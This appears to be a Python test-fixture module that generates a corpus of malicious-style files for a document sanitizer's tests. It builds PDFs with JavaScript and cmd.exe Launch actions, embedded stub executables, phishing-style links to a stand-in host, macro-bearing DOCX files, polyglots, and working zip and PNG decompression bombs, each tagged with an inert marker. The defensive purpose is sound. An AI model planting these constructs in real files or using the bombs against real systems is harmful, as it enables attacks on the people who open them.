"""The malicious-file corpus, built by the tests themselves (no downloaded malware).

Every payload carries a unique marker so a test can prove it is gone from the clean copy.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from PIL import ExifTags, Image, PngImagePlugin
from reportlab.pdfgen import canvas

JS_MARKER = b"PWNED-JS-7f3a"
LAUNCH_MARKER = b"LAUNCH-CMD-91c2"
EXE_MARKER = b"EVIL-EXE-PAYLOAD-55d1"
URI_MARKER = b"evil-phish-8b4e.example"
FORM_JS_MARKER = b"FORM-CALC-JS-2e6f"
FORM_VALUE = b"FILLED-VALUE-42"
XFA_MARKER = b"XFA-SCRIPT-0c9d"
ZIP_MARKER = b"ZIP-PAYLOAD-a1b2"
PNG_SCRIPT_MARKER = b"PNG-SCRIPT-33aa"
PAGE_TEXT = "Hello sanitize page"

MZ_EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 44
    + b"\x80\x00\x00\x00"
    + b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
    + b"This program cannot be run in DOS mode.\r\r\n$"
    + b"\x00" * 7
    + b"PE\x00\x00\x4c\x01\x03\x00"
    + EXE_MARKER
    + b"\x00" * 64
)


def legit_pdf(pages: int = 2) -> bytes:
    out = io.BytesIO()
    c = canvas.Canvas(out, pagesize=(595.27, 841.89), pageCompression=0)
    for n in range(1, pages + 1):
        c.setFont("Helvetica", 24)
        c.drawString(72, 720, f"{PAGE_TEXT} {n}")
        c.rect(72, 400, 200, 100, fill=1)
        c.showPage()
    c.save()
    return out.getvalue()


def modified_pdf(change: Callable[[pikepdf.Pdf], None], *, base: bytes | None = None) -> bytes:
    with pikepdf.open(io.BytesIO(base or legit_pdf())) as pdf:
        change(pdf)
        out = io.BytesIO()
        pdf.save(out)
    return out.getvalue()


def _js(pdf: pikepdf.Pdf, code: bytes) -> pikepdf.Object:
    return pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(code)))


def _rect() -> pikepdf.Array:
    return pikepdf.Array([72, 600, 300, 640])


def pdf_with_javascript() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = _js(pdf, b"app.alert('" + JS_MARKER + b"');")
        js_stream = pdf.make_stream(b"this.exportDataObject({cName:'x'}); //" + JS_MARKER)
        named = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=js_stream))
        pdf.Root.Names = pikepdf.Dictionary(
            JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["init", named]))
        )
        pdf.Root.AA = pikepdf.Dictionary(WC=_js(pdf, b"//close " + JS_MARKER))
        pdf.pages[0].obj.AA = pikepdf.Dictionary(O=_js(pdf, b"//page open " + JS_MARKER))
        # An outline item whose action is JavaScript chained after a harmless jump.
        item = pdf.make_indirect(
            pikepdf.Dictionary(
                Title=pikepdf.String("Start"),
                A=pikepdf.Dictionary(
                    S=pikepdf.Name.GoTo, D=pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit]),
                    Next=_js(pdf, b"//chained " + JS_MARKER),
                ),
            )
        )  # fmt: skip
        outlines = pdf.make_indirect(
            pikepdf.Dictionary(Type=pikepdf.Name.Outlines, First=item, Last=item, Count=1)
        )
        item.Parent = outlines
        pdf.Root.Outlines = outlines

    return modified_pdf(change)


def pdf_with_launch() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        launch = pikepdf.Dictionary(
            S=pikepdf.Name.Launch,
            F=pikepdf.String(b"cmd.exe"),
            Win=pikepdf.Dictionary(F=pikepdf.String(b"cmd.exe"), P=pikepdf.String(b"/c " + LAUNCH_MARKER)),
        )
        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=_rect(), A=launch)
        pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(link)]))

    return modified_pdf(change)


def pdf_with_embedded_exe() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, MZ_EXE, filename="invoice.exe")
        stream = pdf.make_stream(MZ_EXE)
        stream.Type = pikepdf.Name.EmbeddedFile
        filespec = pikepdf.Dictionary(
            Type=pikepdf.Name.Filespec, F=pikepdf.String("readme.exe"), EF=pikepdf.Dictionary(F=stream)
        )
        annot = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=_rect(), FS=filespec
        )
        pdf.pages[1].obj.Annots = pikepdf.Array([pdf.make_indirect(annot)])

    return modified_pdf(change)


def pdf_with_uri_link() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        uri = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(b"https://" + URI_MARKER + b"/login"))
        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=_rect(), A=uri)
        pdf.pages[0].obj.Annots = pikepdf.Array([pdf.make_indirect(link)])
        pdf.Root.URI = pikepdf.Dictionary(Base=pikepdf.String(b"https://" + URI_MARKER))

    return modified_pdf(change)


def pdf_with_form() -> bytes:
    """AcroForm text field with a JavaScript calculate action, a filled value and an XFA packet."""

    def change(pdf: pikepdf.Pdf) -> None:
        font = pikepdf.Dictionary(
            Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica
        )
        appearance = pdf.make_stream(b"BT /Helv 12 Tf 2 6 Td (" + FORM_VALUE + b") Tj ET")
        appearance.Type = pikepdf.Name.XObject
        appearance.Subtype = pikepdf.Name.Form
        appearance.BBox = pikepdf.Array([0, 0, 228, 40])
        appearance.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(Helv=font))
        field = pdf.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Tx,
                T=pikepdf.String("total"), V=pikepdf.String(FORM_VALUE), Rect=_rect(), F=4,
                P=pdf.pages[0].obj, AP=pikepdf.Dictionary(N=appearance),
                AA=pikepdf.Dictionary(C=_js(pdf, b"event.value = 1; //" + FORM_JS_MARKER)),
            )
        )  # fmt: skip
        pdf.pages[0].obj.Annots = pikepdf.Array([field])
        xfa = pdf.make_stream(b"<xdp:xdp><script>" + XFA_MARKER + b"</script></xdp:xdp>")
        pdf.Root.AcroForm = pikepdf.Dictionary(
            Fields=pikepdf.Array([field]), CO=pikepdf.Array([field]), XFA=xfa,
            DR=pikepdf.Dictionary(Font=pikepdf.Dictionary(Helv=font)), NeedAppearances=False,
        )  # fmt: skip

    return modified_pdf(change)


def pdf_with_metadata() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        with pdf.open_metadata(set_pikepdf_as_editor=False) as meta:
            meta["dc:creator"] = ["SECRET-AUTHOR-77"]
        pdf.docinfo["/Author"] = "SECRET-AUTHOR-77"

    return modified_pdf(change)


def encrypted_pdf(*, user_password: str) -> bytes:
    with pikepdf.open(io.BytesIO(pdf_with_javascript())) as pdf:
        out = io.BytesIO()
        pdf.save(out, encryption=pikepdf.Encryption(user=user_password, owner="owner-secret"))
    return out.getvalue()


def malformed_pdf() -> bytes:
    return b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R\n" + bytes(range(256)) * 8 + b"\nendobj\n"


def damaged_xref_pdf() -> bytes:
    data = legit_pdf()
    at = data.rfind(b"startxref")
    return data[:at] + b"startxref\n999999\n%%EOF\n"


def small_zip(name: str = "payload.js", content: bytes = b"WScript.Echo('" + ZIP_MARKER + b"')") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(name, content)
    return out.getvalue()


def pdf_zip_polyglot() -> bytes:
    """A valid PDF that is also a valid ZIP (and JAR-like): the archive appended after %%EOF."""
    return legit_pdf() + small_zip("META-INF/MANIFEST.MF", b"Main-Class: Evil\n" + ZIP_MARKER)


def pdf_with_zip_in_unreferenced_object() -> bytes:
    """The ZIP sits inside an object nothing references, in the middle of the file."""
    data = legit_pdf()
    at = data.find(b"xref")
    blob = small_zip()
    orphan = b"99 0 obj\n<< /Length %d >>\nstream\n" % len(blob) + blob + b"\nendstream\nendobj\n"
    return data[:at] + orphan + data[at:]


def zip_with_pdf_header() -> bytes:
    """A ZIP whose first member name carries a PDF header within the first 1024 bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("a.txt", b"%PDF-1.4\n" + ZIP_MARKER)
    return out.getvalue()


def _jpeg_bytes(im: Image.Image, **kwargs: object) -> bytes:
    out = io.BytesIO()
    im.save(out, "JPEG", quality=95, **kwargs)
    return out.getvalue()


def gradient(size: tuple[int, int] = (160, 120)) -> Image.Image:
    w, h = size
    im = Image.new("RGB", size)
    im.putdata([(x * 255 // w, y * 255 // h, 128) for y in range(h) for x in range(w)])
    return im


def legit_jpeg() -> bytes:
    return _jpeg_bytes(gradient())


def jpeg_with_gps_and_zip() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "EvilCam"
    exif[ExifTags.IFD.GPSInfo] = {1: "N", 2: (35.0, 41.0, 22.0), 3: "E", 4: (139.0, 45.0, 30.0)}
    jpeg = _jpeg_bytes(gradient(), exif=exif.tobytes(), comment=b"JPEG-COMMENT")
    return jpeg + small_zip()


def png_with_script() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "<script>alert('" + PNG_SCRIPT_MARKER.decode() + "')</script>")
    info.add_text("Payload", PNG_SCRIPT_MARKER.decode() * 4, zip=True)
    out = io.BytesIO()
    gradient((80, 60)).save(out, "PNG", pnginfo=info)
    return out.getvalue()


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_bomb(width: int = 100_000, height: int = 100_000) -> bytes:
    """Declares 10 gigapixels; the whole file is a few hundred bytes."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 4096, 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


def zip_bomb(size: int = 20 * 1024 * 1024) -> bytes:
    """One member of zeros compressed about a thousand times."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("zeros.bin", b"\x00" * size)
    return out.getvalue()


def nested_zip_bomb(copies: int = 8) -> bytes:
    """Copies of a zip bomb inside another archive (the 42.zip shape, one level)."""
    inner = zip_bomb(4 * 1024 * 1024)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for n in range(copies):
            zf.writestr(f"layer{n}.zip", inner)
    return out.getvalue()


def exe_file() -> bytes:
    return MZ_EXE + b"\x00" * 512


def html_file() -> bytes:
    return (
        b"<!DOCTYPE html>\n<html><body><script>fetch('https://" + URI_MARKER + b"')</script></body></html>\n"
    )


_DOCX_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    b'<Override PartName="/word/document.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    b"</Types>"
)
_DOCX_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    b'Target="word/document.xml"/></Relationships>'
)
DOCX_TEXT = "Hello from docx"


def docx(*, with_macro: bool = True, external_template: bool = False, link: bool = False) -> bytes:
    body = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        f"<w:body><w:p><w:r><w:t>{DOCX_TEXT}</w:t></w:r></w:p>"
        + ('<w:p><w:hyperlink r:id="rId9"><w:r><w:t>click</w:t></w:r></w:hyperlink></w:p>' if link else "")
        + "</w:body></w:document>"
    ).encode()
    doc_rels = [
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    ]
    if with_macro:
        doc_rels.append(
            b'<Relationship Id="rId5" '
            b'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
            b'Target="vbaProject.bin"/>'
        )
    if link:
        doc_rels.append(
            b'<Relationship Id="rId9" '
            b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
            b'Target="https://' + URI_MARKER + b'/" TargetMode="External"/>'
        )
    if external_template:
        doc_rels.append(
            b'<Relationship Id="rId7" '
            b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
            b'Target="http://' + URI_MARKER + b'/t.dotm" TargetMode="External"/>'
        )
    doc_rels.append(b"</Relationships>")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", _DOCX_TYPES)
        zf.writestr("_rels/.rels", _DOCX_RELS)
        zf.writestr("word/document.xml", body)
        zf.writestr("word/_rels/document.xml.rels", b"".join(doc_rels))
        if with_macro:
            zf.writestr(
                "word/vbaProject.bin",
                b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Attribute VB_Name AutoOpen Shell",
            )
    return out.getvalue()


def pdf_dump(data: bytes) -> bytes:
    """The whole PDF with every stream decoded, as text: what a payload search must look through."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        out = io.BytesIO()
        pdf.save(
            out, qdf=True, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.all,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
        )  # fmt: skip
    return data + out.getvalue()
